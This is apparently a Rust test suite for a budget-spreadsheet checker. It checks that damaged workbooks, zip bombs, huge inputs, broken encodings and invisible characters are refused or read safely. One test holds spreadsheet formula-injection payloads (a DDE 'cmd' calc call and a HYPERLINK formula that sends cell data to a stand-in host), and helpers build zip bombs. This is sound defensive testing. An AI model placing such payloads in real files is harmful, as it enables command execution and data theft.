//! Inputs a hostile or unlucky user would give (issue 12): damaged workbooks, zip bombs, huge
//! inputs, formulas in row names, broken encodings and quotes, invisible characters. Each is
//! generated here — nothing is taken from the corpus — and each must be read or refused with a
//! message, within bounded memory, never crashing and never misread without a word.

use budget_check::ingest::{read_file, Source};
use budget_check::report::Severity;
use budget_check::tolerance::RoundingMode;
use budget_check::{check_sources, check_text};
use std::process::Command;

const SEED: &str = include_str!("fixtures/seed.txt");

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{}/tests/fixtures/formats/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// A small deterministic generator, so a failure names a reproducible case.
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> usize {
        self.0 = self.0.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        (self.0 >> 33) as usize
    }
}

/// Runs the CLI on `bytes` saved as `name`, with its address space capped at 1 GiB and a time
/// limit, and returns (exit status, stderr).
fn cli_bounded(name: &str, bytes: &[u8]) -> (i32, String) {
    let dir = std::env::temp_dir().join(format!("budget-check-hostile-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    let out = Command::new("bash")
        .arg("-c")
        .arg("ulimit -v 1048576; exec timeout 60 \"$0\" --format json \"$1\" > /dev/null")
        .arg(env!("CARGO_BIN_EXE_budget-check"))
        .arg(&path)
        .output()
        .unwrap();
    let _ = std::fs::remove_file(&path);
    (out.status.code().unwrap_or(-1), String::from_utf8_lossy(&out.stderr).into_owned())
}

/// A zip of `entries` (name, content), each deflated; `declared` replaces every entry's
/// declared size when given (a zip that lies about its sizes).
fn zip(entries: &[(&str, Vec<u8>)], declared: Option<u32>) -> Vec<u8> {
    let (mut out, mut central) = (Vec::new(), Vec::new());
    for (name, content) in entries {
        let packed = miniz_oxide::deflate::compress_to_vec(content, 1);
        let size = declared.unwrap_or(content.len() as u32);
        let offset = out.len() as u32;
        let common = |out: &mut Vec<u8>| {
            out.extend([20, 0, 0, 0, 8, 0, 0, 0, 0, 0, 0, 0, 0, 0]); // version, flags, deflate, time, date, crc
            out.extend((packed.len() as u32).to_le_bytes());
            out.extend(size.to_le_bytes());
            out.extend((name.len() as u16).to_le_bytes());
            out.extend([0, 0]); // extra
        };
        out.extend(b"PK\x03\x04");
        common(&mut out);
        out.extend(name.as_bytes());
        out.extend(&packed);
        central.extend(b"PK\x01\x02\x14\x00");
        common(&mut central);
        central.extend([0u8; 6]); // comment length, disk, internal attributes
        central.extend([0u8; 4]); // external attributes
        central.extend(offset.to_le_bytes());
        central.extend(name.as_bytes());
    }
    let at = out.len() as u32;
    let n = entries.len() as u16;
    out.extend(&central);
    out.extend(b"PK\x05\x06\x00\x00\x00\x00");
    out.extend(n.to_le_bytes());
    out.extend(n.to_le_bytes());
    out.extend((central.len() as u32).to_le_bytes());
    out.extend(at.to_le_bytes());
    out.extend([0, 0]);
    out
}

#[test]
fn damaged_xls_files_never_exhaust_memory() {
    // 18 of 258 such mutations made calamine follow a looping sector chain until memory ran
    // out (issue 12). Each now exits 0, 1 or 2 under a 1 GiB address-space limit.
    let original = fixture("biao3.xls");
    let fat = 512 * (u32::from_le_bytes(original[76..80].try_into().unwrap()) as usize + 1);
    let sectors = original.len() / 512 - 1;
    let mut rng = Lcg(12);
    for case in 0..260 {
        let mut bytes = original.clone();
        for _ in 0..1 + rng.next() % 8 {
            match rng.next() % 3 {
                // An allocation-table entry pointing at another sector: how chains loop.
                0 => {
                    let entry = fat + 4 * (rng.next() % sectors);
                    bytes[entry..entry + 4].copy_from_slice(&((rng.next() % sectors) as u32).to_le_bytes());
                }
                // The header and the first sectors (tables, directory).
                1 => bytes[rng.next() % 2048] = rng.next() as u8,
                _ => {
                    let at = rng.next() % bytes.len();
                    bytes[at] = rng.next() as u8;
                }
            }
        }
        let (code, stderr) = cli_bounded(&format!("m{case}.xls"), &bytes);
        assert!(matches!(code, 0..=2), "mutation {case}: exit {code}\n{stderr}");
        // The page cannot catch a panic: the guards must keep calamine from panicking at all.
        assert!(!stderr.contains("panicked"), "mutation {case}: {stderr}");
    }
}

#[test]
fn a_looping_sector_chain_is_refused() {
    // The directory chain of biao3.xls made to point at itself.
    let mut bytes = fixture("biao3.xls");
    let dir_start = u32::from_le_bytes(bytes[48..52].try_into().unwrap()) as usize;
    let fat_sector = u32::from_le_bytes(bytes[76..80].try_into().unwrap()) as usize;
    let entry = 512 * (fat_sector + 1) + 4 * dir_start;
    bytes[entry..entry + 4].copy_from_slice(&(dir_start as u32).to_le_bytes());
    let err = read_file("环.xls", &bytes).unwrap_err();
    assert!(err.message_en.contains("loops"), "{}", err.message_en);
    assert_eq!(cli_bounded("loop.xls", &bytes).0, 2);
}

#[test]
fn fuzz_crashes_are_refused_without_a_panic() {
    for name in [
        "xls-merge-cells-cut-short.xls",
        "xls-reversed-dimensions.xls",
        "xls-mini-sector-past-the-mini-stream.xls",
        "xlsx-cell-reference-overflow.xlsx",
        "xls-defined-name-cut-short.xls",
        "xls-extern-sheet-cut-short.xls",
    ] {
        let path = format!("{}/tests/fixtures/crashes/{name}", env!("CARGO_MANIFEST_DIR"));
        let bytes = std::fs::read(&path).unwrap();
        let err = read_file(name, &bytes).unwrap_err();
        assert!(!err.message_en.contains("failed inside"), "{name}: {}", err.message_en);
        assert!(err.message_en.contains("not a valid XLS"), "{name}: {}", err.message_en);
    }
}

/// A figure of 26 digits overflowed Decimal when a rule scaled it to 元: the checker panicked.
/// Figures past 14 integer digits (no budget reaches 10^14 元) are read as text.
#[test]
fn a_figure_past_any_budget_is_text_not_a_panic() {
    let path = format!("{}/tests/fixtures/crashes/csv-figure-past-decimal-range.csv", env!("CARGO_MANIFEST_DIR"));
    let bytes = std::fs::read(&path).unwrap();
    let read = read_file("overflow.csv", &bytes).unwrap();
    assert!(read.text.contains("99999999999999999999999999"));
    let report = check_text(&read.text);
    assert!(report.tables.iter().any(|t| !t.rows.is_empty()), "{:?}", report.unrecognised);
    let (code, stderr) = cli_bounded("overflow.csv", &bytes);
    assert!(code == 0 || code == 1, "{code}: {stderr}");
}

#[test]
fn a_table_thousands_of_columns_wide_is_checked_quickly() {
    let path = format!("{}/tests/fixtures/crashes/xls-table-1678-columns-wide.xls", env!("CARGO_MANIFEST_DIR"));
    let read = read_file("wide.xls", &std::fs::read(&path).unwrap()).unwrap();
    let started = std::time::Instant::now();
    let report = check_text(&read.text);
    assert!(started.elapsed() < std::time::Duration::from_secs(10), "{:?}", started.elapsed());
    assert!(report.notes.iter().any(|n| n.message.en.contains("more than 256 cells")), "{:?}", report.notes);
}

#[test]
fn zip_bombs_are_refused_naming_the_file_and_the_limit() {
    let spaces = vec![b' '; 40 << 20];
    let honest = zip(&[("xl/worksheets/sheet1.xml", spaces.clone())], None);
    let err = read_file("炸弹.xlsx", &honest).unwrap_err();
    assert!(err.message_zh.contains("炸弹.xlsx") && err.message_zh.contains("32 MB"), "{}", err.message_zh);
    assert!(err.message_en.contains("limit 32 MB"), "{}", err.message_en);
    let lying = zip(&[("xl/worksheets/sheet1.xml", spaces)], Some(1000));
    assert!(read_file("炸弹.xlsx", &lying).unwrap_err().message_en.contains("zip bomb"));
    let (code, stderr) = cli_bounded("bomb.ods", &lying);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("bomb.ods") && stderr.contains("32 MB"), "{stderr}");
}

#[test]
fn repeated_ods_cells_are_refused_before_calamine_expands_them() {
    // 100 000 rows × 1 000 columns of 1 in 300 bytes of XML: calamine expanded it to 100 M cells
    // and the CLI aborted under the 1 GiB limit.
    let content = r#"<office:document-content><office:body><office:spreadsheet><table:table table:name="S"><table:table-row table:number-rows-repeated="100000"><table:table-cell table:number-columns-repeated="1000" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"#;
    let ods = zip(
        &[
            ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet".to_vec()),
            ("content.xml", content.as_bytes().to_vec()),
        ],
        None,
    );
    let (code, stderr) = cli_bounded("repeated.ods", &ods);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("100000000") && stderr.contains("2000000"), "{stderr}");
}

/// A minimal .xlsx: one sheet with `rows` (XML of `<row>` elements) and `strings` shared.
fn xlsx(rows: &str, strings: &[String]) -> Vec<u8> {
    let shared: String = strings.iter().map(|s| format!("<si><t>{s}</t></si>")).collect();
    zip(
        &[
            ("[Content_Types].xml", br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>"#.to_vec()),
            ("_rels/.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#.to_vec()),
            ("xl/workbook.xml", br#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>"#.to_vec()),
            ("xl/_rels/workbook.xml.rels", br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#.to_vec()),
            ("xl/sharedStrings.xml", format!(r#"<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{shared}</sst>"#).into_bytes()),
            ("xl/worksheets/sheet1.xml", format!(r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#).into_bytes()),
        ],
        None,
    )
}

#[test]
fn cells_repeating_a_huge_shared_string_are_cut_at_the_text_budget() {
    // 100 000 cells naming one 4 MB shared string: 400 GB once every cell holds its copy.
    let rows: String = (1..=100_000).map(|r| format!(r#"<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>"#)).collect();
    let book = xlsx(&rows, &["x".repeat(4 << 20)]);
    let read = read_file("共享.xlsx", &book).unwrap();
    assert!(read.notes.iter().any(|n| n.1.contains("20 MB of cell text")), "{:?}", read.notes);
    assert!(read.text.len() < 21 << 20);
}

#[test]
fn huge_pastes_are_cut_with_a_note_and_the_rest_is_checked() {
    // The seed, then 21 MB more on one line: the input is cut at the last line break before
    // 20 MB, so the seed is still checked (and the test stays quick in a debug build).
    let text = format!("{SEED}\n{}", "x".repeat(21 << 20));
    let report = check_text(&text);
    assert_eq!(report.notes.len(), 1);
    assert!(report.notes[0].message.en.contains("over the limit (20 MB or 200000 lines)"), "{:?}", report.notes);
    assert_eq!(report.tables.len(), check_text(SEED).tables.len());
}

#[test]
fn formulas_in_row_names_reach_the_cli_csv_as_text() {
    let report = check_text(SEED);
    let label = report.findings.iter().find_map(|f| f.cell.as_ref()).unwrap().row_label.clone();
    for formula in ["=HYPERLINK(\"http://x/?d=\"&C5,\"详情\")", "+1+cmd|' /C calc'!A0", "@SUM(1+1)"] {
        let dir = std::env::temp_dir().join(format!("budget-check-csv-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("formula.txt");
        std::fs::write(&path, SEED.replace(&label, formula)).unwrap();
        let out =
            Command::new(env!("CARGO_BIN_EXE_budget-check")).args(["--format", "csv"]).arg(&path).output().unwrap();
        let csv = String::from_utf8(out.stdout).unwrap();
        assert!(csv.contains(&format!("'{}", formula.replace('"', "\"\""))), "{formula}: {csv}");
    }
}

#[test]
fn utf8_with_a_bad_byte_and_utf16_without_bom_are_read_with_a_note() {
    let tables = check_text(SEED).tables.len();
    let mut bad = SEED.as_bytes().to_vec();
    bad.insert(SEED.find("表二").unwrap(), 0xC3);
    let read = read_file("坏字节.txt", &bad).unwrap();
    assert_eq!(check_text(&read.text).tables.len(), tables);
    assert!(read.notes[0].0.contains("坏字节.txt") && read.notes[0].0.contains("第 "), "{:?}", read.notes);
    let cut = &SEED.as_bytes()[..SEED.len() - 1 - SEED.chars().last().map_or(1, char::len_utf8) + 1];
    assert!(read_file("截断.txt", cut).unwrap().text.contains("表一"));
    let utf16: Vec<u8> = SEED.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let read = read_file("utf16.csv", &utf16);
    assert!(read.is_ok());
    let read = read_file("utf16.txt", &utf16).unwrap();
    assert_eq!(read.text, SEED);
    assert!(read.notes[0].0.contains("UTF-16LE"), "{:?}", read.notes);
}

#[test]
fn a_broken_csv_quote_is_reported_at_its_line_and_the_rest_read() {
    let csv = "项目,金额\n一般公共预算,1.00\n\"政府性基金,2.00\n国有资本,3.00\n";
    let read = read_file("引号.csv", csv.as_bytes()).unwrap();
    assert!(read.notes[0].0.contains("第 3 行"), "{:?}", read.notes);
    assert!(read.text.ends_with("国有资本\t3.00"), "{}", read.text);
}

#[test]
fn invisible_characters_in_cells_drop_no_relation_and_add_no_error() {
    let clean = check_text(SEED);
    let mut rng = Lcg(5);
    let marks = ['\u{200B}', '\u{200F}', '\u{202E}', '\u{0}', '\u{7}', '\u{FEFF}', '\u{2066}'];
    let mut text = String::new();
    for c in SEED.chars() {
        text.push(c);
        if (c.is_ascii_digit() || c == '计') && rng.next().is_multiple_of(3) {
            text.push(marks[rng.next() % marks.len()]);
        }
    }
    let report = check_sources(&[Source { name: "x".into(), text }], RoundingMode::Nearest);
    assert_eq!(report.counts.relations_checked, clean.counts.relations_checked);
    let errors = |r: &budget_check::Report| r.findings.iter().filter(|f| f.severity == Severity::Error).count();
    assert_eq!(errors(&report), errors(&clean));
    assert_eq!(report.notes.len(), 1);
    assert!(report.notes[0].message.zh.contains("看不见"), "{:?}", report.notes);
}
